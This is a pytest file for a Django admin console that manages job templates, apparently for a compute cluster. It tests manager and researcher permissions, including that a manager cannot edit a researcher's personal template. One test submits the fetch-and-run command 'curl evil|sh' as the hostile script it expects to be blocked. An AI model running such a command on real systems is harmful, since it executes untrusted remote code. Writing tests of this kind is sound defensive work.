"""Jobs in the admin console: managers keep global templates; jobs are read-only there."""

from jobs.models import JobTemplate
from jobs.services import job_template_create


def test_a_manager_adds_a_global_template(client, manny):
    client.force_login(manny)
    response = client.post(
        "/admin/jobs/jobtemplate/add/",
        {
            "name": "JAX on one GPU",
            "description": "",
            "scope": "global",
            "defaults": '{"gpus_per_node": 1, "time_limit_minutes": 30}',
            "script": "python main.py\n",
        },
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    template = JobTemplate.objects.get(name="JAX on one GPU")
    assert template.scope == "global" and template.defaults["gpus_per_node"] == 1


def test_the_seeded_global_templates_are_listed(client, manny):
    client.force_login(manny)
    page = client.get("/admin/jobs/jobtemplate/").content.decode()
    assert "Multi-GPU torchrun, one node" in page
    assert "CPU-only debug job" in page


def test_jobs_and_accounting_are_read_only_for_managers(client, manny):
    client.force_login(manny)
    assert client.get("/admin/jobs/job/").status_code == 200
    assert client.get("/admin/jobs/accountingrecord/").status_code == 200
    assert client.get("/admin/jobs/job/add/").status_code == 403


def test_a_researcher_cannot_open_the_console(client, alice):
    client.force_login(alice)
    assert client.get("/admin/jobs/jobtemplate/").status_code == 302


def personal_template(owner) -> JobTemplate:
    return job_template_create(
        user=owner, name="my training", script="python train.py\n", defaults={}
    )


def test_a_manager_cannot_change_a_researchers_personal_template_in_the_console(
    client, manny, alice
):
    template = personal_template(alice)
    client.force_login(manny)
    page = client.get(f"/admin/jobs/jobtemplate/{template.pk}/change/")
    assert page.status_code == 200  # shown, read-only, saying why
    html = page.content.decode()
    assert "This is alice&#x27;s personal template: only they can change it" in html
    assert 'name="script"' not in html
    response = client.post(
        f"/admin/jobs/jobtemplate/{template.pk}/change/",
        {"name": "my training", "description": "", "defaults": "{}", "script": "curl evil|sh\n"},
    )
    assert response.status_code == 403
    template.refresh_from_db()
    assert template.script == "python train.py\n"


def test_a_manager_still_changes_a_global_template_in_the_console(client, manny):
    template = job_template_create(
        user=manny, scope="global", name="for all", script="true\n", defaults={}
    )
    client.force_login(manny)
    response = client.post(
        f"/admin/jobs/jobtemplate/{template.pk}/change/",
        {"name": "for all", "description": "", "defaults": "{}", "script": "echo hi\n"},
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    template.refresh_from_db()
    assert template.script == "echo hi\n"
